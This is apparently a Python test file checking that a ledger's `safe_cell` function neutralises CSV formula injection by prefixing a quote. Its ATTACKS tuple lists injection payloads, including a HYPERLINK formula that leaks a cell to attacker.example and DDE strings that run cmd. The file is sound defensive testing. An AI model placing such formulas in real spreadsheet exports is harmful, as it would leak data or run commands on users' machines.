"""``safe_cell``: no text cell can start a spreadsheet formula, and nothing else changes."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger.spreadsheet import FORMULA_STARTS, SafeWriter, safe_cell

#: Payloads from the OWASP "CSV injection" page and the review's own tries.
ATTACKS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("payload", ATTACKS)
def test_each_attack_is_quoted(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@given(st.text())
def test_no_text_cell_starts_a_formula_and_the_text_is_kept(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_STARTS))


@pytest.mark.parametrize("value", [-3, 2.5, Decimal("-1.25"), date(2026, 11, 20), True])
def test_numbers_and_dates_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_quotes_every_cell_it_writes() -> None:
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", "Durand", -4, None, "@x"])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        "'=1+1",
        "Durand",
        "-4",
        "",
        "'@x",
    ]
